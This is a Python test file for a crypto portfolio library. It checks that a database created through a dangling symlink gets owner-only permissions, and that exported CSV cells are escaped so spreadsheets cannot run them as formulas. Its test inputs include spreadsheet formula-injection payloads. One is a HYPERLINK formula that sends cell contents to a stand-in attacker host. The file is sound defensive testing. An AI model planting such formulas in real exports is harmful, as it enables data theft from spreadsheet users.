"""Issue 31 finding 8 through the ABI: a dangling symbolic link at the database path has its target
created owner-only (0600), and exported ledger cells cannot run as spreadsheet formulas yet import
back exactly."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

import coinfolio

FORMULA_TEXTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", '=HYPERLINK("http://evil.example/?"&A1,"click")', "'=x",
                 "''@y", "'plain", "plain", "a=b"]


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.sqlite_only
def test_a_dangling_symbolic_link_has_its_target_created_owner_only(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    link = tmp_path / "portfolio.sqlite"
    link.symlink_to("elsewhere/real.sqlite")
    target = tmp_path / "elsewhere" / "real.sqlite"
    previous = os.umask(0o022)
    try:
        with coinfolio.Engine(database=link) as engine:
            engine.set_holding("bitcoin", 1)
    finally:
        os.umask(previous)
    assert link.is_symlink() and os.readlink(link) == "elsewhere/real.sqlite"
    assert mode(target) == 0o600, oct(mode(target))


def test_exported_cells_cannot_run_as_formulas_and_import_back_exactly(tmp_path: Path) -> None:
    with coinfolio.Engine(database=tmp_path / "a.sqlite") as engine:
        engine.create_portfolio("=Main")
        for day, text in enumerate(FORMULA_TEXTS, start=1):
            engine.add_transaction("bitcoin", "transfer_in", 1, timestamp=f"2024-01-{day:02d}", note=text,
                                   external_id=None if "\t" in text else text, portfolio="=Main")
        before = engine.transactions(portfolio="=Main")["transactions"]
        exported = engine.export_csv("=Main")
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell[:1] or cell[0] not in "=+-@\t\r", f"a cell a spreadsheet would run: {row}"
    assert rows[1][1] == "'=Main" and rows[1][7] == "'=1+1" and rows[7][7] == "''=x"
    with coinfolio.Engine(database=tmp_path / "b.sqlite") as other:
        assert other.import_csv(exported) == {"imported": len(FORMULA_TEXTS), "skipped": 0}
        after = other.transactions(portfolio="=Main")["transactions"]
    assert [t["note"] for t in after] == [t["note"] for t in before]
    assert [t["portfolio"] for t in after] == ["=Main"] * len(FORMULA_TEXTS)
    assert [t["external_id"] for t in after] == [t["external_id"] or f"coinfolio:{t['id']}" for t in before]
